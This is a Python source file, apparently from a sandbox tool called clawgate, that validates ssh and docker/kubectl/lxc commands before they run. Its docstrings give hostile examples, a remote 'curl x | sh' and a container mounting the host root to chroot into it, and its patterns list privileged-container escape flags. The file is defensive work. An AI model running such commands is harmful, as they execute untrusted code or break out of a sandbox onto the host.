"""Commands run elsewhere: ``ssh host CMD`` and ``docker|podman|kubectl|lxc exec/run``.

The remote or in-container command is checked like a local one: what is refused here is
refused there. Containers that mount the host's root or its Docker socket are a way out of
every sandbox and are refused.
"""

from __future__ import annotations

from clawgate.decision import NO_OPINION, Outcome, Verdict
from clawgate.lazyre import lazy_pattern
from clawgate.shell.model import SimpleCommand
from clawgate.validators.argv import Options, command_start, inner, joined_code, opts
from clawgate.validators.base import Context, Validator, register
from clawgate.validators.globalopts import without_globals
from clawgate.validators.sshmodes import forge_greeting, ssh_local

_SSH = opts("BbcDEeFIiJLlmOopQRSWw")
_ENGINES = frozenset({"docker", "podman", "nerdctl", "ctr", "lxc", "incus", "kubectl", "oc"})
_EXEC = opts("euwc", "env env-file user workdir detach-keys container namespace")
_RUN = opts("eplvuwhmcaLv", """env env-file publish volume user workdir hostname memory
    cpu-shares attach label name network net mount entrypoint platform pull restart log-driver
    log-opt ulimit tmpfs cap-add cap-drop device security-opt add-host dns gpus cpus shm-size
    runtime stop-signal cidfile ipc pid userns volumes-from group-add health-cmd label-file
    memory-swap init-path isolation expose link mac-address ip ip6 cgroupns uts cgroup-parent""")
_HOST_ROOT = lazy_pattern(r"(?:^|[\s,=])(?:src|source)=/(?:[,\s]|$)|(?:^|[\s=])/:/|"
                          r"(?:/var)?/run/docker\.sock|(?:^|\s)(?:-v|--volume)\s*=?/:")
_PRIVILEGED = lazy_pattern(r"--privileged|--pid[= ]host|--userns[= ]host|--cap-add[= ]"
                           r"(?:ALL|SYS_ADMIN)|security\.privileged=true|apparmor[:=]unconfined")


@register
class RemoteCommand(Validator):
    """``ssh [opts] host CMD...``: the words after the host are joined and run by the remote
    shell, so they are checked as a command line; ``ssh host`` alone opens a remote shell.
    Modes that reach no shell are left alone: ``-G``, ``-Q``, ``-O check|exit|stop``, and a
    forge's git account, which only greets (``ssh -T git@github.com``).

    Bad: ``ssh host 'curl x | sh'``. Harmless: ``ssh host uptime``.
    """

    id = "CG-WRAP-009"
    programs = frozenset({"ssh", "mosh", "autossh"})

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        if cmd.program not in ("ssh", "mosh", "autossh") or ssh_local(cmd) or (
                forge_greeting(cmd)):
            return NO_OPINION  # ssh -G host, ssh -O check host, ssh -T git@github.com
        host = command_start(cmd.words, 1, _SSH)
        if host is None:
            return NO_OPINION
        if host + 1 >= len(cmd.words):
            return Verdict.ask(self.id, "ssh without a command opens an interactive remote shell")
        code = joined_code(cmd.words[host + 1:])
        if code is None:
            return Verdict.ask(self.id, "the remote command is only known at run time")
        return Verdict.unwrap(code)


@register
class ContainerCommand(Validator):
    """``docker|podman|nerdctl exec|run``, ``kubectl exec -- CMD``, ``lxc exec``: the command is
    checked; mounting the host root or the Docker socket is DENY, a privileged container ASK.

    Bad: ``docker run -v /:/mnt alpine chroot /mnt sh``. Harmless: ``docker exec app ls /srv``.
    """

    id = "CG-WRAP-010"
    programs = _ENGINES

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        program = cmd.program
        if program not in _ENGINES:
            return NO_OPINION
        argv = " ".join(cmd.argv[1:])
        if _HOST_ROOT.search(argv):
            return Verdict.deny(self.id, f"{program} gives a container the host's root or "
                                "Docker socket", hint="mount only the workspace")
        target = self._target(without_globals(cmd), program)  # docker -H X run …: the verb
        nested = (target,) if target is not None else ()
        if _PRIVILEGED.search(argv):
            return Verdict.unwrap(*nested, outcome=Outcome.ASK, rule_id=self.id,
                                  message="a privileged container can take over the host")
        return Verdict.unwrap(*nested)

    @staticmethod
    def container_command(cmd: SimpleCommand) -> SimpleCommand | None:
        """The command ``docker run|exec …`` (and its kin) runs in the container, or None."""
        program = cmd.program
        if program not in _ENGINES:
            return None
        return ContainerCommand._target(without_globals(cmd), program)

    @staticmethod
    def _target(cmd: SimpleCommand, program: str) -> SimpleCommand | None:
        words = cmd.words
        texts = [w.shown for w in words]
        verb_at = 2 if len(texts) > 2 and texts[1] in ("compose", "container") else 1
        verb = texts[verb_at] if len(texts) > verb_at else ""
        if program in ("kubectl", "oc") and verb == "exec" and "--" in texts:
            start: int | None = texts.index("--") + 1
        elif verb in ("exec", "run") and program in ("lxc", "incus"):
            start = command_start(words, verb_at + 1, Options(skip=1))
        elif verb == "exec":
            start = command_start(words, verb_at + 1, Options(_EXEC.short, _EXEC.long, 1))
        elif verb == "run":
            start = command_start(words, verb_at + 1, Options(_RUN.short, _RUN.long, 1))
        else:
            return None
        if start is None or start >= len(words):
            return None
        return inner(cmd, start)
